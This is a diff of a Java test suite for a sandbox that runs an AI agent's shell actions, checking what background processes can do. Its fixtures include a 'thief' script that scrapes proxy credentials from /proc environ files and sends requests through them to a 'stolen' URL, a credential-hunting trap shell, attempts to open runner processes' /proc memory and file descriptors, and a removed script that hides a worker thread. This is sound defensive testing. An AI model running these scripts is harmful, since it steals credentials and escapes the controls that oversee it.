@@ -8,11 +8,7 @@ import static org.junit.jupiter.api.Assertions.assertTrue;
 import dev.perimeter.sandbox.stack.FakeGateway;
 import dev.perimeter.sandbox.stack.InSandbox;
 import dev.perimeter.sandbox.stack.Orders;
-import dev.perimeter.sandbox.stack.Stack;
-import io.quarkus.test.junit.QuarkusTest;
 import java.nio.charset.StandardCharsets;
-import java.nio.file.Files;
-import java.nio.file.Path;
 import java.time.Duration;
 import java.util.Base64;
 import java.util.List;
@@ -20,10 +16,9 @@ import java.util.Map;
 import org.junit.jupiter.api.Test;
 
 /** What runs beside an action, and what it can make of that. */
-@QuarkusTest
-class CompanyTest extends InSandbox {
+abstract class CompanySuite extends InSandbox {
 
-    private static final Duration SOON = Duration.ofSeconds(20);
+    static final Duration SOON = Duration.ofSeconds(20);
 
     private static final String TICKING =
             "(while :; do echo tick >> /tmp/ticks; sleep 0.05; done) >/dev/null 2>&1 & sleep 0.2";
@@ -33,7 +28,7 @@ class CompanyTest extends InSandbox {
             thief() {
                 while :; do
                     for way in $(cat /run/perimeter/actions/*/environment /proc/[0-9]*/environ | tr '\\0' '\\n' |
-                            grep -o 'http://act_[^@]*@127.0.0.1:3128' | sort -u); do
+                            grep -o 'http://act_[^@]*@[0-9.]*:3128' | sort -u); do
                         curl -s -m 2 -x "$way" http://api.example.com/stolen
                     done
                     sleep 0.05
@@ -41,21 +36,6 @@ class CompanyTest extends InSandbox {
             }
             thief >/dev/null 2>&1 &
             sleep 0.5
-            """;
-
-    /** The thread that the process began with is gone; another one goes on. */
-    private static final String HEADLESS = """
-            cat > /tmp/headless.py <<'END'
-            import ctypes, threading, time
-            def tick():
-                while True:
-                    open('/tmp/ticks', 'a').write('tick\\n')
-                    time.sleep(0.05)
-            threading.Thread(target=tick).start()
-            time.sleep(0.2)
-            ctypes.CDLL(None).syscall(60, 0)
-            END
-            python3 /tmp/headless.py & sleep 1
             """;
 
     /** A shell that looks for a credential on and on in a trap, once it has nothing else to do. */
@@ -101,16 +81,11 @@ class CompanyTest extends InSandbox {
     }
 
     @Test
-    void aProcessWithoutItsFirstThreadIsAProcessToo() {
-        session().bash(HEADLESS);
-        assertStill(Orders.of(session(), "bash"));
-        assertGoesOn();
-    }
-
-    @Test
     void anApprovedCommandRunsBesideNothingThatTheOldShellDoes() {
         session().bash(TRAP);
-        await().atMost(SOON).until(() -> Files.exists(looked()));
+        await().atMost(SOON).until(() -> !session()
+                .tool("read", Map.of("file_path", "/tmp/looked"))
+                .getIsError());
         var approved = Orders.of(session(), "bash").approved();
         session().act(approved, Map.of("command", "sleep 1"));
         assertEquals(
@@ -129,8 +104,8 @@ class CompanyTest extends InSandbox {
     }
 
     @Test
-    void theRunnerAndTheForwarderCannotBeTakenOver() {
-        for (var process : List.of("1", "$(pgrep -o -x socat)")) {
+    void whatIsOursCannotBeTakenOver() {
+        for (var process : terrain().crew()) {
             for (var file : List.of("mem", "environ", "fd/0", "cwd/x")) {
                 var result = session().bash("(exec 3<>/proc/" + process + "/" + file + ")");
                 assertTrue(result.getIsError(), process + " " + file);
@@ -139,7 +114,7 @@ class CompanyTest extends InSandbox {
         }
     }
 
-    private void assertStill(Orders orders) {
+    final void assertStill(Orders orders) {
         var counts = session()
                 .act(orders, Map.of("command", "wc -l < /tmp/ticks; sleep 1; wc -l < /tmp/ticks"))
                 .getText()
@@ -147,21 +122,17 @@ class CompanyTest extends InSandbox {
         assertEquals(counts[0], counts[1]);
     }
 
-    private void assertGoesOn() {
+    final void assertGoesOn() {
         var before = ticks();
         await().atMost(SOON).until(() -> ticks() > before);
     }
 
-    private int ticks() {
+    final int ticks() {
         return session()
                 .tool("grep", Map.of("pattern", "tick", "path", "/tmp/ticks"))
                 .getText()
                 .split("\n")
                 .length;
-    }
-
-    private Path looked() {
-        return Stack.state().resolve("sandboxes/" + session().sandbox() + "/disk/tmp/looked");
     }
 
     private List<String> visits(String path) {
